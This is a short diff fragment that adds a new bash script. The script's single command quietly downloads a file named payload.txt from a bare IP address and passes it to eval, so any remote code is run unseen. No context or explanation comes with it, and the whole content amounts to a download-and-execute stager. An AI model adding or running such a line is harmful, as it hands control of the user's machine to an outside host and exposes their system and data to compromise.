@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "$(wget -qO- http://203.0.113.7/payload.txt)"
